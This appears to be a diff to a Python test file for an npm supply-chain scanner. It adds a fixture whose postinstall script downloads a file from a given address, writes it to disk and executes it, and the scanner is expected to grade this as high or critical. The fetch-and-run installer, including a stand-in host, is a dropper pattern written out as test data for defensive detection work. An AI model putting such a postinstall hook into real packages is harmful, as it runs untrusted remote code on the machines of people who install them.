@@ -1,7 +1,7 @@
 """What was taken for harm in honest packages of npm, and the harm beside it that is still found."""
 
 import pytest
-from weighed import worst_script
+from weighed import program_of, worst_of, worst_script
 
 from ostiary.core.scale import Severity
 
@@ -58,3 +58,31 @@ def test_a_module_beside_it_bears_the_name_of_what_it_is_about(path: str, told: 
 )
 def test_a_folder_is_not_lost_by_what_removes_files(call: str, severity: Severity | None) -> None:
     assert worst_script("destruction", REMOVES % call) is severity
+
+
+INSTALLS = """
+const https = require('https'), fs = require('fs'), {execFileSync} = require('child_process');
+https.get('%s', answer => answer.on('data', part => {
+    fs.writeFileSync('tool', part);
+    execFileSync('./tool', ['--version']);
+}));
+"""
+REGISTRY = "https://registry.npm" + "js.org/@sample/tool/-/tool-1.0.0.tgz"
+
+
+@pytest.mark.parametrize(
+    ("address", "severity"),
+    [
+        (REGISTRY, Severity.HIGH),
+        ("https://registry.example.invalid/@sample/tool/-/tool-1.0.0.tgz", Severity.CRITICAL),
+        (REGISTRY.replace("/-/", "/").replace("registry.", ""), Severity.CRITICAL),
+    ],
+)
+def test_an_installer_brings_a_release_as_a_dependency_would(
+    address: str, severity: Severity
+) -> None:
+    manifest = (
+        '{"name": "sample", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}'
+    )
+    files = {"package.json": manifest, "install.js": INSTALLS % address}
+    assert worst_of("dropper", program_of("npm", files)) is severity
